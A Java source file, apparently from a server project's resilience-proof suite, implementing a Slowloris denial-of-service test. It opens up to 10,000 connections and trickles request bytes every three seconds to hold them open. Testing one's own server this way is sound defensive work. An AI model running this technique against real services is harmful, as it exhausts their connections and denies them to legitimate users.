package io.artifactvault.proofs.attack;

import java.io.IOException;
import java.time.Duration;

/** Requests whose heads come an octet every three seconds. */
final class Slowloris implements Attack {
    private static final int CONNECTIONS = 10_000;
    private static final int OCTETS = 4;
    private static final Duration PERIOD = Duration.ofSeconds(3);

    @Override
    public String name() {
        return "slowloris";
    }

    @Override
    public void run(AttackStage stage) throws Exception {
        int count = stage.count(CONNECTIONS);
        int kept = stage.each(count, number -> drip(stage.open()));
        stage.say("%d of %d kept a connection for %d s", kept, count, PERIOD.toSeconds() * OCTETS);
    }

    private static void drip(Line line) throws IOException {
        line.send("GET / HTTP/1.1\r\n");
        for (int i = 0; i < OCTETS; i++) {
            Pause.of(PERIOD);
            line.send("X");
        }
    }
}
